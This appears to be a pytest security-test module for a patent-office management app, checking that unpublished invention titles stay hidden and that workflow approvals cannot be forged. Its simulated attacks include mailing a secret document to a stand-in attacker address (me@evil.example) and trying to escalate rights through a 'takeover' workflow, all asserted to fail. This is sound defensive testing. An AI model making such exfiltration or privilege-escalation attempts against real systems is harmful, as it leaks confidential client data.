"""Attacks on what is closed: unpublished inventions in letters, flows and bills; flows on others' matters; previews."""

from __future__ import annotations

import io

import pypdf
import pytest
from sqlalchemy import select

from core import db, record_class, registry, system
from plugins.documents.jobs import print_document
from plugins.documents.printing import Press
from tests.security.offices import SECRET

CASE, DOCUMENT = "cases.case", "documents.document"
REFUSED = (400, 403, 404, 409, 422)
OUTSIDE = ("consultant", "finance", "archive", "service_desk", "analyst")


@pytest.fixture(scope="module", autouse=True)
def consultant_of_the_client(offices):
    """The consultant looks after a client of their own, whose invention is not public."""
    with offices.app.app_context(), system("a client of the consultant") as session:
        client = session.get(record_class("clients.client"), offices.here.client)
        client.team_id = None
        case = session.get(record_class(CASE), offices.here.invention)
        case.client_manager_id = offices.people["consultant here"]


def test_the_title_of_an_unpublished_invention_is_closed_to_begin_with(offices):
    seen = offices.api("consultant here").get(f"{CASE}/{offices.here.invention}")
    assert seen.status_code == 200
    assert SECRET not in seen.text
    assert SECRET in offices.api("pat_agent here").get(f"{CASE}/{offices.here.invention}").text


@pytest.mark.parametrize("role", ["consultant", "finance"])
def test_who_may_not_read_the_title_makes_no_letter_that_tells_it(offices, role):
    with offices.app.app_context():
        codes = list(registry().documents.get(CASE, {}))
    for code in codes:
        made = offices.act(f"{role} here", CASE, offices.here.invention, "make_document", kind=code)
        if made.status_code == 200:
            told = offices.api(f"{role} here").get(f"{DOCUMENT}/{made.json['result']['document']}")
            assert SECRET not in told.text, code
            stored = offices.seen(DOCUMENT, made.json["result"]["document"])
            assert SECRET not in repr(stored.source), code
        else:
            assert made.status_code in REFUSED, made.text


def test_letters_of_an_unpublished_invention_name_it_to_nobody_outside(offices, tmp_path):
    """The agent makes one; others who see documents of the branch neither read its title nor open nor send it."""
    letter = {"kind": "filing_confirmation_request"}
    made = offices.act("pat_agent here", CASE, offices.here.invention, "make_document", **letter)
    assert made.status_code == 200, made.text
    ident = made.json["result"]["document"]
    with offices.app.app_context(), Press(tmp_path / "fonts") as press:
        assert print_document(ident, press) == "ready"
    for role in ("consultant", "finance", "archive"):
        client = offices.api(f"{role} here")
        for path in (
            f"{DOCUMENT}/{ident}",
            f"{DOCUMENT}?limit=200",
            f"{DOCUMENT}?q={SECRET}",
            "core.attachment?limit=200",
        ):
            assert SECRET not in client.get(path).text, (role, path)
        assert client.get(f"{DOCUMENT}?q={SECRET[:6]}&count=1").json.get("total", 0) == 0, role
        sent = offices.act(f"{role} here", DOCUMENT, ident, "send_mail", to="me@evil.example", subject="x", text="x")
        assert sent.status_code in REFUSED, (role, sent.text)
        browser = offices.browser(f"{role} here")
        assert browser.get(f"/documents/{ident}/paper").status_code in (403, 404)
        assert SECRET not in browser.get(f"/r/{DOCUMENT}/{ident}").text
        assert SECRET not in browser.get(f"/r/{CASE}/{offices.here.invention}?tab=documents").text
    again = offices.act("finance here", DOCUMENT, ident, "make_again")
    if again.status_code == 200:
        assert SECRET not in repr(offices.seen(DOCUMENT, again.json["result"]["document"]).source)


@pytest.mark.parametrize("role", ["consultant", "finance"])
def test_lists_of_a_clients_cases_name_no_closed_title(offices, role):
    with offices.app.app_context(), system("a client of the consultant") as session:
        client = session.get(record_class("clients.client"), offices.here.client)
        client.owner_id = offices.people["consultant here"]
    made = offices.act(
        f"{role} here", "clients.client", offices.here.client, "make_document", kind="case_status_report"
    )
    assert made.status_code == 200, made.text
    assert SECRET not in repr(offices.seen(DOCUMENT, made.json["result"]["document"]).source)


def test_the_preview_of_a_template_shows_no_closed_title(offices):
    browser = offices.browser("finance here")
    with offices.app.app_context():
        codes = list(registry().documents.get(CASE, {}))
    for code in codes:
        page = browser.get(f"/documents/templates/{CASE}/{code}/zh")
        assert page.status_code in (200, 403, 404)
        assert SECRET not in page.text, code
        shown = browser.post(f"/documents/templates/{CASE}/{code}/zh/preview", {"record": offices.here.invention})
        if shown.mimetype == "application/pdf":
            text = "".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(shown.data)).pages)
            assert SECRET not in text.replace("\n", ""), code


def test_bills_of_an_unpublished_invention_do_not_name_it(offices):
    with offices.app.app_context():
        item = record_class("billing.price_item")
        with system("an item"):
            chosen = db.session.scalars(select(item.id).where(item.list_price > 100).limit(1)).one()
    made = offices.act("finance here", CASE, offices.here.invention, "bill_case", item=chosen, quantity="1")
    assert made.status_code == 200, made.text
    for path in ("billing.bill?limit=200", "billing.bill_line?limit=200", f"billing.bill?q={SECRET[:6]}"):
        assert SECRET not in offices.api("finance here").get(path).text, path


def flow(offices, key=CASE, code="attack"):
    """A published flow of one approval, seeded once."""
    with offices.app.app_context(), system("a flow to attack") as session:
        definition = record_class("workflow.definition")
        if session.query(definition.id).filter(definition.code == code).first():
            return code
        nodes = [
            {"id": "submit", "kind": "start", "name": "提交"},
            {"id": "head", "kind": "approve", "name": "主管", "who": ["user:dept_head here"]},
        ]
        session.add(definition(code=code, name=code, record_key=key, state="published", version_no=1, nodes=nodes))
    return code


def start(offices, who, case, code):
    asked = {"code": code, "record_key": CASE, "record_id": case}
    return offices.api(who).post("workflow.instance/actions/start", asked)


def test_flows_start_on_ones_own_matters_alone(offices):
    """`start` is granted for cases one is named on; a colleague of the department only reads them."""
    code = flow(offices)
    assert offices.api("colleague here").get(f"{CASE}/{offices.here.mark}").status_code == 200
    assert start(offices, "colleague here", offices.here.mark, code).status_code == 403
    assert start(offices, "tm_agent there", offices.here.mark, code).status_code == 404
    assert start(offices, "finance here", offices.here.mark, code).status_code == 403
    page = offices.browser("colleague here").get(
        f"/workflow/start?record_key={CASE}&record_id={offices.here.mark}&code={code}"
    )
    assert page.status_code in (403, 404)


def test_titles_of_flows_do_not_name_an_unpublished_invention_to_outsiders(offices):
    code = flow(offices, code="secret")
    started = start(offices, "pat_agent here", offices.here.invention, code)
    assert started.status_code == 200, started.text
    for key in ("workflow.instance", "workflow.task", "workflow.step", "core.notification", "core.mail"):
        for role in OUTSIDE:
            assert SECRET not in offices.api(f"{role} here").get(f"{key}?limit=200").text, (role, key)
    assert SECRET not in offices.browser("consultant here").get(f"/r/{CASE}/{offices.here.invention}").text
    mine = start(offices, "consultant here", offices.here.invention, flow(offices, code="mine"))
    if mine.status_code == 200:
        assert (
            SECRET
            not in offices.api("consultant here").get(f"workflow.instance/{mine.json['result']['instance']}").text
        )


def test_nobody_hands_on_or_adds_signers_to_pass_their_own_draft(offices):
    code = flow(offices, code="own")
    with offices.app.app_context(), system("the head drafts") as session:
        session.get(record_class(CASE), offices.here.mark).agent_id = offices.people["tm_agent here"]
    run = start(offices, "tm_agent here", offices.here.mark, code).json["result"]["instance"]
    with offices.app.app_context(), system("its task") as session:
        model = record_class("workflow.task")
        task = session.query(model).filter(model.instance_id == run).one()
        asked = {"round": task.round, "version": task.record_version, "decision": "approve"}
        ident = task.id
    for who in ("tm_agent here", "colleague here", "second head here", "partner here", "dept_head there"):
        assert offices.act(who, "workflow.task", ident, "decide", **asked).status_code in REFUSED, who
    me = offices.people["tm_agent here"]
    for who in ("tm_agent here", "dept_head here", "partner here"):
        for code in ("hand_on", "add_signer"):
            answer = offices.act(who, "workflow.task", ident, code, person=me)
            assert answer.status_code in REFUSED, (who, code, answer.text)
    assert (
        offices.act(
            "dept_head here", "workflow.task", ident, "hand_on", person=offices.people["dept_head there"]
        ).status_code
        in REFUSED
    )
    for name, value in (
        ("state", "done"),
        ("decision", "approve"),
        ("candidates", [me]),
        ("assignee", me),
        ("decided_by", me),
        ("record_version", 1),
    ):
        for who in ("tm_agent here", "dept_head here", "administrator here"):
            answer = offices.patch(who, f"workflow.task/{ident}", {name: value})
            assert answer.status_code in (*REFUSED, 405), (who, name)
    assert offices.seen("workflow.task", ident).state == "open"


def test_a_configurator_gives_nobody_rights_by_a_flow(offices):
    """A flow acts with its own right: it may carry out actions of business records, not those of people and rights."""
    made = offices.api("config_admin here").post(
        "workflow.definition",
        {
            "code": "takeover",
            "name": "takeover",
            "record_key": "portal.user",
            "nodes": [
                {"id": "submit", "kind": "start", "name": "x"},
                {"id": "a", "kind": "auto", "name": "x", "action": "enable"},
            ],
        },
    )
    if made.status_code == 201:
        offices.act("config_admin here", "workflow.definition", made.json["id"], "publish")
        asked = {"code": "takeover", "record_key": "portal.user", "record_id": 1}
        assert offices.api("config_admin here").post("workflow.instance/actions/start", asked).status_code in REFUSED
